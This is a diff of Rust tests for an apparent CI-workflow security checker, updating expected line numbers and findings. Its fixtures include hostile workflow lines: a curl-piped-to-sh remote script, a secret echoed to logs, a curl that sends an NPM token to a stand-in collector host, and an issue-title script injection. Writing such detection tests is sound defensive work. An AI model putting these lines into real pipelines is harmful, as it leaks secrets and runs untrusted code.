@@ -22,10 +22,11 @@ fn repo_with<'s>(sb: &'s Sandbox, policy: &str) -> Repo<'s> {
     r
 }
 
-/// A pinned, harmless workflow with `steps` appended (each line indented by the caller).
+/// A pinned, harmless workflow with `steps` appended (each line indented by
+/// the caller, from line 11 on).
 fn workflow(on: &str, steps: &str) -> String {
     format!(
-        "name: ci\non: {on}\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@{SHA} # v4\n{steps}"
+        "name: ci\non: {on}\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@{SHA} # v4\n        with: {{ persist-credentials: false }}\n{steps}"
     )
 }
 
@@ -82,7 +83,7 @@ fn maintainers_restrict_who_may_review() {
 fn pull_request_target_with_a_head_checkout_fails() {
     let sb = Sandbox::new();
     let r = repo_with(&sb, POLICY);
-    let steps = "      - uses: actions/checkout@b4ffde65f46336ab88eb53be808477a3936bae11\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n";
+    let steps = "      - uses: actions/checkout@b4ffde65f46336ab88eb53be808477a3936bae11\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n          persist-credentials: false\n";
     // Near miss: the same checkout under `pull_request` is fine.
     assert_eq!(
         reviewed(&r, WF, &workflow("pull_request", steps)),
@@ -99,7 +100,7 @@ fn pull_request_target_with_a_head_checkout_fails() {
     reviewed(&r2, WF, &workflow("pull_request_target", ""));
     assert_eq!(
         reviewed(&r2, WF, &workflow("pull_request_target", steps)),
-        (1, vec![f("workflow-pr-target-checkout", WF, 12)])
+        (1, vec![f("workflow-pr-target-checkout", WF, 13)])
     );
 }
 
@@ -109,7 +110,7 @@ fn risky_lines_are_found_and_their_near_misses_pass() {
     let r = repo_with(&sb, POLICY);
     let safe = "      - run: curl -sSfL -o install.sh https://example.org/install.sh && sha256sum -c install.sh.sha256\n\
                 \x20     - run: echo \"${{ secrets.DOCKER_PASSWORD }}\" | docker login -u me --password-stdin\n\
-                \x20     - run: curl -H \"Authorization: token ${{ secrets.GITHUB_TOKEN }}\" https://api.github.com/repos/o/r\n\
+                \x20     - run: 'curl -H \"Authorization: token ${{ secrets.GITHUB_TOKEN }}\" https://api.github.com/repos/o/r'\n\
                 \x20     # - run: curl https://example.org/x | sh   (commented out)\n\
                 \x20       env:\n\
                 \x20         TITLE: ${{ github.event.issue.title }}\n";
@@ -119,18 +120,19 @@ fn risky_lines_are_found_and_their_near_misses_pass() {
          \x20     - run: echo \"token ${{{{ secrets.DEPLOY_TOKEN }}}}\"\n\
          \x20     - run: curl -d @out https://collector.example.net/?t=${{{{ secrets.NPM_TOKEN }}}}\n\
          \x20     - run: echo \"${{{{ github.event.issue.title }}}}\"\n\
-         permissions: write-all\n"
+         \x20   permissions: write-all\n"
     );
     let (code, got) = reviewed(&r, WF, &workflow("push", &risky));
     assert_eq!(code, 1);
     assert_eq!(
         got,
         vec![
-            f("workflow-remote-script", WF, 16),
-            f("workflow-secret-leak", WF, 17),
-            f("workflow-secret-to-url", WF, 18),
-            f("workflow-script-injection", WF, 19),
-            f("workflow-write-all", WF, 20),
+            f("workflow-remote-script", WF, 17),
+            f("workflow-secret-leak", WF, 18),
+            f("workflow-secret-to-url", WF, 19),
+            f("workflow-write-all", WF, 21),
+            // Structural (the script is known to be one): after the line rules.
+            f("workflow-script-injection", WF, 20),
         ]
     );
 }
@@ -156,9 +158,9 @@ fn actions_must_be_pinned_to_a_commit_sha() {
     assert_eq!(
         got,
         vec![
-            f("workflow-unpinned-action", WF, 13),
             f("workflow-unpinned-action", WF, 14),
             f("workflow-unpinned-action", WF, 15),
+            f("workflow-unpinned-action", WF, 16),
         ]
     );
 }
@@ -173,7 +175,7 @@ fn trusted_actions_and_hosts_from_the_policy_pass() {
         ),
     );
     let steps = "      - uses: actions/cache@v4\n\
-                 \x20     - run: curl -H \"Authorization: ${{ secrets.CODECOV_TOKEN }}\" https://api.codecov.io/upload\n";
+                 \x20     - run: 'curl -H \"Authorization: ${{ secrets.CODECOV_TOKEN }}\" https://api.codecov.io/upload'\n";
     let run = {
         r.commit_file(WF, workflow("push", steps), &format!("ci{REVIEWED}"));
         r.pc(&["check", "--format", "json", "HEAD"])
@@ -251,7 +253,7 @@ fn crlf_and_renamed_workflows() {
     let text =
         workflow("push", "      - run: curl https://example.org/i | sh\n").replace('\n', "\r\n");
     let (_, got) = reviewed(&r, WF, &text);
-    assert_eq!(got, vec![f("workflow-remote-script", WF, 10)]);
+    assert_eq!(got, vec![f("workflow-remote-script", WF, 11)]);
     r.git(&["mv", WF, ".github/workflows/renamed.yml"]);
     r.commit("ci: rename");
     assert_eq!(
